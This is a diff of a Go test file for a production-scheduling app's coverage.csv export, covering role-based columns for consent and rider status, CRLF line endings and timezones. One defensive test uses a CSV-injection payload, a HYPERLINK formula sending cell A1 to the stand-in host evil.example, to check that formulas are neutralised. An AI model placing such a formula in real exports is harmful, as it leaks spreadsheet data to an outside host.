@@ -3,25 +3,34 @@ package api_test
 import (
 	"bytes"
 	"encoding/csv"
+	"maps"
 	"net/http"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 )
 
-// covCSVHeader is the documented column order of coverage.csv (README
-// "Coverage"); changing it breaks people's spreadsheets.
-var covCSVHeader = []string{
-	"scene_id", "scene_number", "scene_title", "call_time", "call_date", "scene_status", "content_tags",
-	"readiness", "reasons", "current_version", "coordinator", "performer_id", "performer", "consent", "rider",
-	"last_checkin_at", "last_checkin_outcome", "debrief_status", "debrief_at",
-}
+// covCSVScene is the documented column order of a producer's coverage.csv
+// (one row per scene, counts only: rule 10); a coordinator's adds
+// covCSVCast (one row per scene × cast member). README "Coverage": changing
+// them breaks people's spreadsheets.
+var (
+	covCSVScene = []string{
+		"scene_id", "scene_number", "scene_title", "call_time", "call_date", "scene_status", "content_tags",
+		"readiness", "reasons", "current_version", "coordinator",
+		"consent_confirmed", "consent_pending", "consent_declined", "consent_withdrawn",
+		"riders_signed", "riders_unsigned", "riders_late",
+		"last_checkin_at", "last_checkin_outcome", "debrief_status", "debrief_at",
+	}
+	covCSVCast = []string{"performer_id", "performer", "consent", "rider"}
+)
 
 // covCSV downloads coverage.csv as a and parses it; rows are keyed by column
 // name.
 func covCSV(t *testing.T, s *testServer, as account, production, query string) (response, [][]string, []map[string]string) {
 	t.Helper()
-	res := coreMust(t, s.Do(request{Method: "GET", Path: "/api/v1/productions/" + production + "/coverage.csv" + query, Token: as.Token}), http.StatusOK)
+	res := must(t, s.Do(request{Method: "GET", Path: "/api/v1/productions/" + production + "/coverage.csv" + query, Token: as.Token}), http.StatusOK)
 	r := csv.NewReader(bytes.NewReader(res.Body))
 	records, err := r.ReadAll()
 	if err != nil {
@@ -38,29 +47,30 @@ func covCSV(t *testing.T, s *testServer, as account, production, query string) (
 	return res, records, rows
 }
 
-// TestCoverageCSV: a header row in the documented order, one row per scene ×
-// current cast member (one row with empty cast columns for a scene without
-// cast), CRLF line ends, times in the production's zone, an attachment name,
-// and the same readiness as the JSON.
+// TestCoverageCSV: a header row in the documented order per role; for the
+// coordinator one row per scene × current cast member (one row with empty
+// cast columns for a scene without cast), for the producer one row per scene
+// with counts and no performer columns; CRLF line ends, times in the
+// production's zone, an attachment name, and the same readiness as the JSON.
 func TestCoverageCSV(t *testing.T) {
 	s := newTestServer(t)
-	w := coreNewWorld(t, s)
+	w := newWorld(t, s)
 	two := w.scene("42A", []string{"kissing", "partial_nudity"}, w.PerformerA, w.PerformerB)
 	w.published(two, "v1", w.kissStep(w.PerformerA, w.PerformerB))
-	coreMust(t, w.decide(w.PerformerA, two, 1, "confirmed", ""), http.StatusOK)
-	none := w.createScene(w.Coordinator, coreSceneBody("7", map[string]any{"title": "Crowd, no cast", "contentTags": []string{},
+	must(t, w.decide(w.PerformerA, two, 1, "confirmed", ""), http.StatusOK)
+	none := w.createScene(w.Coordinator, sceneBody("7", map[string]any{"title": "Crowd, no cast", "contentTags": []string{},
 		"callTime": "2026-12-01T23:30:00Z"}))["id"].(string)
-	w.createScene(w.Coordinator, coreSceneBody("8", map[string]any{"callTime": "2026-12-02T00:30:00Z"})) // 2 December in London
+	w.createScene(w.Coordinator, sceneBody("8", map[string]any{"callTime": "2026-12-02T00:30:00Z"})) // 2 December in London
 
-	res, records, rows := covCSV(t, s, w.Producer, w.Production, "?from=2026-12-01&to=2026-12-01")
+	res, records, rows := covCSV(t, s, w.Coordinator, w.Production, "?from=2026-12-01&to=2026-12-01")
 	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
 		t.Errorf("content type %q", ct)
 	}
 	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="closedset-coverage-night-garden-2026-12-01-2026-12-01.csv"` {
 		t.Errorf("content disposition %q", cd)
 	}
-	if !reflect.DeepEqual(records[0], covCSVHeader) {
-		t.Errorf("header %v,\nwant %v", records[0], covCSVHeader)
+	if want := slices.Concat(covCSVScene, covCSVCast); !reflect.DeepEqual(records[0], want) {
+		t.Errorf("header %v,\nwant %v", records[0], want)
 	}
 	if n := bytes.Count(res.Body, []byte("\r\n")); n != len(records) || bytes.Count(res.Body, []byte("\n")) != n {
 		t.Errorf("%d CRLF line ends for %d records:\n%q", n, len(records), res.Body)
@@ -72,11 +82,15 @@ func TestCoverageCSV(t *testing.T) {
 	if a["performer_id"] != w.PerformerA.ID || b["performer_id"] != w.PerformerB.ID {
 		a, b = b, a
 	}
-	wantA := map[string]string{"scene_id": two, "scene_number": "42A", "scene_title": "Scene 42A",
+	sceneA := map[string]string{"scene_id": two, "scene_number": "42A", "scene_title": "Scene 42A",
 		"call_time": "2026-12-01T07:30:00Z", "call_date": "2026-12-01", "scene_status": "planned",
 		"content_tags": "kissing;partial_nudity", "readiness": "at_risk", "reasons": "consent_pending;rider_missing",
-		"current_version": "1", "coordinator": "Cory Coordinator", "performer_id": w.PerformerA.ID, "performer": "Ada Actor",
-		"consent": "confirmed", "rider": "unsigned", "last_checkin_at": "", "last_checkin_outcome": "", "debrief_status": "", "debrief_at": ""}
+		"current_version": "1", "coordinator": "Cory Coordinator",
+		"consent_confirmed": "1", "consent_pending": "1", "consent_declined": "0", "consent_withdrawn": "0",
+		"riders_signed": "0", "riders_unsigned": "2", "riders_late": "0",
+		"last_checkin_at": "", "last_checkin_outcome": "", "debrief_status": "", "debrief_at": ""}
+	wantA := maps.Clone(sceneA)
+	maps.Copy(wantA, map[string]string{"performer_id": w.PerformerA.ID, "performer": "Ada Actor", "consent": "confirmed", "rider": "unsigned"})
 	if !reflect.DeepEqual(a, wantA) {
 		t.Errorf("row %v,\nwant %v", a, wantA)
 	}
@@ -84,12 +98,22 @@ func TestCoverageCSV(t *testing.T) {
 		t.Errorf("row %v", b)
 	}
 	if empty["scene_id"] != none || empty["readiness"] != "not_needed" || empty["coordinator"] != "" || empty["reasons"] != "" ||
-		empty["performer_id"] != "" || empty["performer"] != "" || empty["consent"] != "" || empty["rider"] != "" {
+		empty["performer_id"] != "" || empty["performer"] != "" || empty["consent"] != "" || empty["rider"] != "" ||
+		empty["consent_pending"] != "0" {
 		t.Errorf("scene without cast %v", empty)
 	}
 
+	// The producer: one row per scene, the same scene columns, no performer.
+	_, records, rows = covCSV(t, s, w.Producer, w.Production, "?from=2026-12-01&to=2026-12-01")
+	if !reflect.DeepEqual(records[0], covCSVScene) {
+		t.Errorf("producer header %v,\nwant %v", records[0], covCSVScene)
+	}
+	if len(rows) != 2 || !reflect.DeepEqual(rows[0], sceneA) || rows[1]["scene_id"] != none {
+		t.Errorf("producer rows %v,\nwant first %v", rows, sceneA)
+	}
+
 	// Without a range: every scene, the file named without dates.
-	res, _, rows = covCSV(t, s, w.Producer, w.Production, "")
+	res, _, rows = covCSV(t, s, w.Coordinator, w.Production, "")
 	if len(rows) != 4 || !strings.HasSuffix(res.Header.Get("Content-Disposition"), `filename="closedset-coverage-night-garden.csv"`) {
 		t.Errorf("%d rows, %q", len(rows), res.Header.Get("Content-Disposition"))
 	}
@@ -103,12 +127,12 @@ func TestCoverageCSV(t *testing.T) {
 // production's zone (RFC 3339 with its offset).
 func TestCoverageCSVTimesInProductionZone(t *testing.T) {
 	s := newTestServer(t)
-	w := coreNewWorld(t, s)
-	res := coreMust(t, s.Do(request{Method: "POST", Path: "/api/v1/productions", Token: w.Producer.Token,
+	w := newWorld(t, s)
+	res := must(t, s.Do(request{Method: "POST", Path: "/api/v1/productions", Token: w.Producer.Token,
 		Body: map[string]any{"title": "Über Nacht!", "kind": "film", "timezone": "America/New_York"}}), http.StatusCreated)
 	w.Production = res.JSON(t)["id"].(string)
 	s.join(w.Producer, w.Production, w.Coordinator, "coordinator")
-	w.createScene(w.Coordinator, coreSceneBody("1", map[string]any{"callTime": "2026-11-02T04:30:00Z"}))
+	w.createScene(w.Coordinator, sceneBody("1", map[string]any{"callTime": "2026-11-02T04:30:00Z"}))
 	res, _, rows := covCSV(t, s, w.Producer, w.Production, "?to=2026-11-01")
 	if len(rows) != 1 || rows[0]["call_time"] != "2026-11-01T23:30:00-05:00" || rows[0]["call_date"] != "2026-11-01" {
 		t.Errorf("rows %v", rows)
@@ -123,7 +147,7 @@ func TestCoverageCSVTimesInProductionZone(t *testing.T) {
 // so that a spreadsheet shows it as text instead of running it.
 func TestCoverageCSVNeutralisesFormulas(t *testing.T) {
 	s := newTestServer(t)
-	w := coreNewWorld(t, s)
+	w := newWorld(t, s)
 	plus := covAccount(t, s, "plus@example.test", "+1 Plus Person")
 	minus := covAccount(t, s, "minus@example.test", "-Minus Person")
 	at := covAccount(t, s, "at@example.test", "@At Person")
@@ -133,11 +157,11 @@ func TestCoverageCSVNeutralisesFormulas(t *testing.T) {
 		s.join(w.Coordinator, w.Production, p, "performer")
 	}
 	title := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
-	sc := w.createScene(w.Coordinator, coreSceneBody("-1", map[string]any{"title": title, "coordinatorId": w.Coordinator.ID}))["id"].(string)
+	sc := w.createScene(w.Coordinator, sceneBody("-1", map[string]any{"title": title, "coordinatorId": w.Coordinator.ID}))["id"].(string)
 	for i, p := range performers {
 		w.cast(sc, p, map[string]any{"characterName": string(rune('A' + i))})
 	}
-	_, _, rows := covCSV(t, s, w.Producer, w.Production, "")
+	_, _, rows := covCSV(t, s, w.Coordinator, w.Production, "")
 	if len(rows) != 4 {
 		t.Fatalf("%d rows", len(rows))
 	}
